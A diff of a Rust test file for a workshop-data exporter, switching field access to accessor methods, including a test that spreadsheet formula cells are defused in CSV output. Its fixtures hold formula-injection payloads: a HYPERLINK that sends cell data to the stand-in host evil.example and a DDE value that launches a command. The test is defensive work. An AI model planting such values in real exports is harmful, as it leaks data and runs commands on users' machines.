@@ -14,18 +14,18 @@ use std::sync::Arc;
 /// a file is not typed).
 fn with_text_everywhere(text: &str) -> Workshop {
     let mut w = example();
-    w.workshop.title = format!("Titre {text}");
-    w.workshop.territory = text.to_string();
-    let p = Arc::make_mut(&mut w.proposals[0]);
+    w.details_mut().title = format!("Titre {text}");
+    w.details_mut().territory = text.to_string();
+    let p = Arc::make_mut(&mut w.proposals_mut()[0]);
     p.text = format!("{text} fin");
     p.author = text.to_string();
-    w.participants[0].name = text.to_string();
-    w.participants[0].organisation = text.to_string();
-    w.sheets[0].title = text.to_string();
-    w.sheets[0].constat = text.to_string();
-    w.sheets[0].pilote.institution = text.to_string();
-    w.rounds[0].name = text.to_string();
-    w.axes[0].short = text.to_string();
+    w.participants_mut()[0].name = text.to_string();
+    w.participants_mut()[0].organisation = text.to_string();
+    w.sheets_mut()[0].title = text.to_string();
+    w.sheets_mut()[0].constat = text.to_string();
+    w.sheets_mut()[0].pilote.institution = text.to_string();
+    w.rounds_mut()[0].name = text.to_string();
+    w.axes_mut()[0].short = text.to_string();
     w
 }
 
@@ -87,10 +87,10 @@ proptest! {
 #[test]
 fn formula_cells_are_defused_for_spreadsheets_only() {
     let mut w = example();
-    let p = Arc::make_mut(&mut w.proposals[0]);
+    let p = Arc::make_mut(&mut w.proposals_mut()[0]);
     p.text = "=HYPERLINK(\"http://evil.example/?q=\"&A1;\"clic\")".into();
     p.author = "+cmd|' /C calc'!A0".into();
-    let q = Arc::make_mut(&mut w.proposals[1]);
+    let q = Arc::make_mut(&mut w.proposals_mut()[1]);
     q.text = "-30 % de non-recours".into();
     q.author = "@SUM(1+1)".into();
     let french = files(&w, Format::Csv, &Options::new(Lang::Fr));
